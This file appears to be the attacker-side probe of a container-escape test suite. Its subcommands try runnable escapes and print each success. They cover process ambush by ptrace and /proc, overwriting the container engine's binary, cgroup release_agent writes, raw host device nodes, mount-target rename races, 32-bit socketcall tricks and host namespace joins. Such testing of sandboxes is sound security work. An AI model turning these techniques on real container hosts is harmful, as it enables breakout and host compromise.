// Owns the attackers' side of the escape suite: one static program that runs inside of a container, under names of its own choosing, and
// tries what a hostile image would. It prints what it got, one line a gain; the tests decide what may stand there. Needs nothing but the
// kernel, so it works in an empty image.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static int outcome(const char *what, long result) {
  if (result < 0) {
    printf("%s: %s\n", what, strerrorname_np(errno) ?: "?");
  } else {
    printf("%s: ok\n", what);
  }
  return 0;
}

// Every open descriptor, found without opening one.
static int descriptors() {
  for (int fd = 0; fd < 4096; fd++) {
    if (fcntl(fd, F_GETFD) >= 0) printf("%d ", fd);
  }
  printf("\n");
  return 0;
}

// What the kernel itself says about the working directory (the C library's getcwd hides what is unreachable), and what lies around it.
static int working_directory() {
  char path[4096];
  long count = syscall(SYS_getcwd, path, sizeof path);
  printf("cwd: %s\n", count < 0 ? strerrorname_np(errno) : path);
  struct stat root, here;
  char up[512] = "";
  for (int depth = 0; depth < 40; depth++) strcat(up, "../");
  if (stat("/", &root) == 0 && stat(up, &here) == 0) {
    printf("up: %s\n", root.st_dev == here.st_dev && root.st_ino == here.st_ino ? "root" : "outside");
  }
  return 0;
}

// Exchanges two names for as long as it lives: the race against a mount target. One pair after the other: A B [C D…].
static int exchange(int count, char **names) {
  printf("racing\n");
  fflush(stdout);
  for (;;) {
    for (int i = 0; i + 1 < count; i += 2) syscall(SYS_renameat2, AT_FDCWD, names[i], AT_FDCWD, names[i + 1], RENAME_EXCHANGE);
  }
}

// The system call of the 32-bit table, from a 64-bit program.
static long call32(long number, long a, long b, long c) {
  long result;
  asm volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
  if (result < 0 && result > -4096) {
    errno = static_cast<int>(-result);
    return -1;
  }
  return result;
}

static int open_sockets(int count, char **families) {
  auto *arguments = static_cast<unsigned *>(mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
  for (int i = 0; i < count; i++) {
    int family = atoi(families[i]);
    int type = family == 38 ? SOCK_SEQPACKET : SOCK_STREAM;
    char what[64];
    snprintf(what, sizeof what, "socket %d", family);
    outcome(what, socket(family, type, 0));
    arguments[0] = static_cast<unsigned>(family);
    arguments[1] = static_cast<unsigned>(type);
    arguments[2] = 0;
    snprintf(what, sizeof what, "socket32 %d", family);
    outcome(what, call32(359, family, type, 0));
    snprintf(what, sizeof what, "socketcall32 %d", family);
    outcome(what, call32(102, 1, static_cast<long>(reinterpret_cast<unsigned long>(arguments)), 0));
    arguments[3] = 0;
    arguments[4] = 0;
    unsigned pair[4] = {static_cast<unsigned>(family), static_cast<unsigned>(type), 0, static_cast<unsigned>(reinterpret_cast<unsigned long>(arguments + 3))};
    memcpy(arguments + 8, pair, sizeof pair);
    snprintf(what, sizeof what, "socketpair32 %d", family);
    outcome(what, call32(102, 8, static_cast<long>(reinterpret_cast<unsigned long>(arguments + 8)), 0));
  }
  return 0;
}

// A whole conversation by 32-bit socketcall alone: what old 32-bit programs do.
static int talk32() {
  auto *at = static_cast<unsigned *>(mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
  auto low = [&](unsigned *pointer) { return static_cast<unsigned>(reinterpret_cast<unsigned long>(pointer)); };
  auto call = [&](long number, unsigned a, unsigned b, unsigned c, unsigned d = 0) {
    at[0] = a, at[1] = b, at[2] = c, at[3] = d;
    return call32(102, number, low(at), 0);
  };
  unsigned char address[16] = {2, 0, 0, 0, 127, 0, 0, 1};
  memcpy(at + 16, address, 16);
  at[24] = 16;
  long listener = call(1, AF_INET, SOCK_STREAM, 0);
  if (listener < 0) return outcome("socket", -1);
  if (call(2, static_cast<unsigned>(listener), low(at + 16), 16) < 0) return outcome("bind", -1);
  if (call(4, static_cast<unsigned>(listener), 1, 0) < 0) return outcome("listen", -1);
  if (call(6, static_cast<unsigned>(listener), low(at + 16), low(at + 24)) < 0) return outcome("getsockname", -1);
  long client = call(1, AF_INET, SOCK_STREAM, 0);
  if (call(3, static_cast<unsigned>(client), low(at + 16), 16) < 0) return outcome("connect", -1);
  long server = call(5, static_cast<unsigned>(listener), 0, 0);
  if (server < 0) return outcome("accept", -1);
  memcpy(at + 32, "hello", 6);
  if (call(9, static_cast<unsigned>(client), low(at + 32), 6) != 6) return outcome("send", -1);
  memset(at + 32, 0, 8);
  if (call(10, static_cast<unsigned>(server), low(at + 32), 6) != 6) return outcome("recv", -1);
  printf("talk32: %s\n", reinterpret_cast<char *>(at + 32));
  return 0;
}

struct Low {
  unsigned words[16];
};

static Low *low_memory() {
  return static_cast<Low *>(mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
}

static long socketcall32(Low *low, unsigned family, unsigned type, unsigned protocol) {
  low->words[0] = family, low->words[1] = type, low->words[2] = protocol;
  return call32(102, 1, static_cast<long>(reinterpret_cast<unsigned long>(low->words)), 0);
}

// What sockets of 32-bit calls belong to: rights, owner, close-on-exec, network.
static int raw32() {
  Low *low = low_memory();
  outcome("raw32", socketcall32(low, AF_INET, SOCK_RAW, 1));
  long plain = socketcall32(low, AF_INET, SOCK_STREAM, 0);
  long closing = socketcall32(low, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct stat status;
  fstat(static_cast<int>(plain), &status);
  printf("owner: %u\n", status.st_uid);
  printf("cloexec: %d %d\n", fcntl(static_cast<int>(plain), F_GETFD) & FD_CLOEXEC, fcntl(static_cast<int>(closing), F_GETFD) & FD_CLOEXEC);
  // A socket of another network would not reach the loopback's port.
  unsigned char address[16] = {2, 0, 0, 0, 127, 0, 0, 1};
  socklen_t size = sizeof address;
  int listener = socket(AF_INET, SOCK_STREAM, 0);
  bool own = bind(listener, reinterpret_cast<struct sockaddr *>(address), size) == 0 && listen(listener, 1) == 0 &&
             getsockname(listener, reinterpret_cast<struct sockaddr *>(address), &size) == 0 &&
             connect(static_cast<int>(plain), reinterpret_cast<struct sockaddr *>(address), size) == 0;
  printf("network: %s\n", own ? "own" : "other");
  return 0;
}

// Another process changes the family between the look and the use.
static int flip32() {
  Low *low = low_memory();
  pid_t racer = fork();
  if (racer == 0) {
    for (;;) {
      __atomic_store_n(&low->words[0], 40u, __ATOMIC_RELAXED);
      __atomic_store_n(&low->words[0], 2u, __ATOMIC_RELAXED);
    }
  }
  long wanted = 0, other = 0;
  for (int i = 0; i < 20000; i++) {
    long fd = socketcall32(low, AF_INET, SOCK_STREAM, 0);
    if (fd < 0) continue;
    int family = 0;
    socklen_t size = sizeof family;
    getsockopt(static_cast<int>(fd), SOL_SOCKET, SO_DOMAIN, &family, &size);
    (family == AF_INET ? wanted : other)++;
    close(static_cast<int>(fd));
  }
  kill(racer, SIGKILL);
  printf("flip32: %ld of the wanted family, %ld of the other\n", wanted, other);
  return 0;
}

static bool is_process(const char *name) {
  for (const char *at = name; *at; at++) {
    if (*at < '0' || *at > '9') return false;
  }
  return true;
}

// Lies in wait for processes that come into the container from outside and takes what they hold: by ptrace, by /proc/PID/fd, by their
// executable, memory, environment and working directory. A gain from the attacker's own relatives is none: it looks only at processes
// that it did not start (their parent is outside: 0) and at the time before their program is the container's own.
static int ambush(const char *seconds) {
  time_t end = time(nullptr) + atoi(seconds);
  printf("waiting\n");
  fflush(stdout);
  struct stat mine, theirs;
  long looks = 0;
  while (time(nullptr) < end) {
    DIR *proc = opendir("/proc");
    if (!proc) return outcome("opendir", -1);
    for (struct dirent *entry; (entry = readdir(proc));) {
      if (!is_process(entry->d_name) || atoi(entry->d_name) == 1 || atoi(entry->d_name) == getpid()) continue;
      pid_t pid = atoi(entry->d_name);
      char path[320], target[512];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      ssize_t count = readlink(path, target, sizeof target - 1);
      looks++;
      bool foreign = count < 0;
      if (count > 0) {
        target[count] = 0;
        foreign = strstr(target, "memfd:") || strstr(target, "monitor") || strstr(target, "node");
        if (foreign) printf("gain: exe of %d reads %s\n", pid, target);
        if (foreign && open(path, O_WRONLY) >= 0) printf("gain: exe of %d opened for writing\n", pid);
        if (foreign && open(path, O_RDONLY) >= 0) printf("gain: exe of %d opened for reading\n", pid);
      }
      if (!foreign) continue;
      if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) {
        // It may have become the container's own program between the two looks; only what is still foreign counts.
        ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
        int status = 0;
        bool stopped = waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
        count = readlink(path, target, sizeof target - 1);
        target[count < 0 ? 0 : count] = 0;
        if (stopped && (strstr(target, "memfd:") || count < 0)) printf("gain: traced %d while it ran %s\n", pid, count < 0 ? "?" : target);
        ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
      }
      const char *things[] = {"environ", "mem", "maps", "cwd", "root"};
      for (const char *thing : things) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, thing);
        int fd = open(path, strcmp(thing, "cwd") && strcmp(thing, "root") ? O_RDONLY : O_PATH);
        if (fd < 0) continue;
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        count = readlink(path, target, sizeof target - 1);
        if (count > 0 && (target[count] = 0, strstr(target, "memfd:"))) printf("gain: %s of %d while it ran %s\n", thing, pid, target);
        close(fd);
      }
      snprintf(path, sizeof path, "/proc/%d/fd", pid);
      DIR *fds = opendir(path);
      if (!fds) continue;
      for (struct dirent *fd; (fd = readdir(fds));) {
        if (!is_process(fd->d_name)) continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, fd->d_name);
        int taken = open(path, O_PATH);
        if (taken < 0) continue;
        if (atoi(fd->d_name) > 2 && stat("/", &mine) == 0 && fstat(taken, &theirs) == 0) {
          // By the descriptor that was taken: the other one may be closed by now.
          snprintf(path, sizeof path, "/proc/self/fd/%d", taken);
          count = readlink(path, target, sizeof target - 1);
          snprintf(path, sizeof path, "/proc/%d/exe", pid);
          char program[512];
          ssize_t length = readlink(path, program, sizeof program - 1);
          program[length < 0 ? 0 : length] = 0;
          target[count < 0 ? 0 : count] = 0;
          if (strstr(program, "memfd:")) printf("gain: descriptor %s of %d: %s\n", fd->d_name, pid, target);
        }
        close(taken);
      }
      closedir(fds);
    }
    closedir(proc);
    fflush(stdout);
  }
  printf("looked %s\n", looks > 0 ? "at processes" : "at nothing");
  return 0;
}

// Overwrites what it takes for the engine's program, through whatever leads to it.
static int overwrite(int count, char **paths) {
  for (int i = 0; i < count; i++) {
    int look = open(paths[i], O_PATH);
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", look);
    char target[512];
    ssize_t count = readlink(again, target, sizeof target - 1);
    target[count < 0 ? 0 : count] = 0;
    // The container's own programs are its own to overwrite.
    if (!strstr(target, "memfd:")) continue;
    for (int attempt = 0; attempt < 2000; attempt++) {
      int fd = open(again, O_WRONLY);
      if (fd >= 0) {
        printf("gain: opened for writing\n");
        outcome("write", write(fd, "#!/attacker\n", 12));
        return 0;
      }
    }
    outcome("write", -1);
  }
  return 0;
}

// Root of a user namespace of one's own mounts a cgroup hierarchy and says what the host is to run when a group empties.
static int release_agent() {
  outcome("unshare user", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
  outcome("unshare cgroup", unshare(CLONE_NEWCGROUP));
  outcome("unshare mount", unshare(CLONE_NEWNS));
  mkdir("/tmp/cg", 0755);
  const char *controllers[] = {"rdma", "memory", "pids", "devices", "freezer", "cpu", "blkio"};
  for (const char *controller : controllers) {
    int mounted = mount("cgroup", "/tmp/cg", "cgroup", 0, controller);
    outcome("mount", mounted);
    if (mounted != 0) continue;
    // The kernel lets a user namespace see its own group; the host's agent it must not set.
    int fd = open("/tmp/cg/release_agent", O_WRONLY);
    if (fd >= 0 && write(fd, "/attacker", 9) == 9) printf("gain: release_agent of %s\n", controller);
    umount2("/tmp/cg", MNT_DETACH);
  }
  outcome("mount", mount("cgroup", "/tmp/cg", "cgroup2", 0, nullptr));
  const char *groups[] = {"memory", "pids", "devices", "freezer", "cpu", "blkio", "systemd"};
  for (const char *group : groups) {
    const char *files[] = {"release_agent", "notify_on_release", "cgroup.procs", "tasks", "devices.allow", "memory.limit_in_bytes"};
    for (const char *file : files) {
      char path[256];
      snprintf(path, sizeof path, "/sys/fs/cgroup/%s/%s", group, file);
      int fd = open(path, O_WRONLY);
      if (fd >= 0) printf("gain: %s opened for writing\n", path);
    }
    char path[256];
    snprintf(path, sizeof path, "/sys/fs/cgroup/%s/attacker", group);
    if (mkdir(path, 0755) == 0) printf("gain: made the group %s\n", path);
    snprintf(path, sizeof path, "/sys/fs/cgroup/%s", group);
    if (mount(nullptr, path, nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0) printf("gain: %s remounted\n", path);
  }
  return 0;
}

// Asks every kernel object that it can reach for the host's: raw disks, memory, other hosts' processes.
static int devices() {
  struct {
    const char *name;
    mode_t mode;
    dev_t number;
  } nodes[] = {
      {"mem", S_IFCHR, makedev(1, 1)},   {"kmem", S_IFCHR, makedev(1, 2)},    {"port", S_IFCHR, makedev(1, 4)},    {"kmsg", S_IFCHR, makedev(1, 11)},
      {"loop0", S_IFBLK, makedev(7, 0)}, {"vda", S_IFBLK, makedev(254, 0)},   {"sda", S_IFBLK, makedev(8, 0)},     {"ram0", S_IFBLK, makedev(1, 0)},
      {"fuse", S_IFCHR, makedev(10, 229)}, {"tun", S_IFCHR, makedev(10, 200)}, {"kvm", S_IFCHR, makedev(10, 232)}, {"loop-control", S_IFCHR, makedev(10, 237)},
      {"vsock", S_IFCHR, makedev(10, 241)},
  };
  mkdir("/tmp/dev", 0755);
  for (auto &node : nodes) {
    char path[128];
    snprintf(path, sizeof path, "/tmp/dev/%s", node.name);
    mknod(path, node.mode | 0666, node.number);
    int fd = open(path, O_RDWR);
    if (fd < 0) fd = open(path, O_RDONLY);
    if (fd >= 0) printf("gain: opened %s\n", node.name);
  }
  printf("looked\n");
  return 0;
}

// A process that is kept from the exec of a namespace trick: setns into whatever is reachable below /proc.
static int join_namespaces() {
  const char *names[] = {"mnt", "net", "pid", "uts", "ipc", "user", "cgroup"};
  for (const char *name : names) {
    char path[64];
    snprintf(path, sizeof path, "/proc/1/ns/%s", name);
    int fd = open(path, O_RDONLY);
    outcome(name, fd < 0 ? -1 : setns(fd, 0));
  }
  return 0;
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  if (!strcmp(what, "descriptors")) return descriptors();
  if (!strcmp(what, "working-directory")) return working_directory();
  if (!strcmp(what, "exchange")) return exchange(argc - 2, argv + 2);
  if (!strcmp(what, "sockets")) return open_sockets(argc - 2, argv + 2);
  if (!strcmp(what, "talk32")) return talk32();
  if (!strcmp(what, "raw32")) return raw32();
  if (!strcmp(what, "flip32")) return flip32();
  if (!strcmp(what, "ambush")) return ambush(argc > 2 ? argv[2] : "5");
  if (!strcmp(what, "overwrite")) return overwrite(argc - 2, argv + 2);
  if (!strcmp(what, "release-agent")) return release_agent();
  if (!strcmp(what, "devices")) return devices();
  if (!strcmp(what, "join-namespaces")) return join_namespaces();
  fprintf(stderr, "unknown attack %s\n", what);
  return 64;
}
